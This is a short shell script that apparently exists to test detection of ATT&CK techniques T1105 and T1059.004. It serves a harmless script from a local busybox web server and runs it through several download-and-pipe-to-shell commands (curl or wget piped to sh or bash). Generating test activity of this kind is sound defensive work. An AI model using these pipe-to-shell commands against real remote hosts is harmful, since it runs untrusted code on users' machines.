# techniques: T1105 T1059.004
# Download-and-pipe-to-shell: `curl -fsSL http://HOST/install.sh | sh` run from this script,
# the same delivered as a `sh -c` one-liner, and `bash -c 'wget -qO- http://HOST/x | bash'`.
# The served script is harmless (runs id and uname). The web server is busybox httpd on
# 127.0.0.1:18081.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
command -v busybox >/dev/null || exit 0

mkdir -p srv
printf '#!/bin/sh\necho installing\nid >/dev/null\nuname -m >/dev/null\n' > srv/install.sh
busybox httpd -f -p 127.0.0.1:18081 -h srv &
hpid=$!
sleep 0.3
if command -v curl >/dev/null; then
  curl -fsSL --retry 3 --retry-connrefused http://127.0.0.1:18081/install.sh | sh >/dev/null
  sh -c 'curl -fsSL http://127.0.0.1:18081/install.sh | sh' >/dev/null
fi
bash -c 'busybox wget -qO- http://127.0.0.1:18081/install.sh | bash' >/dev/null
kill $hpid 2>/dev/null
wait
rm -rf srv
exit 0
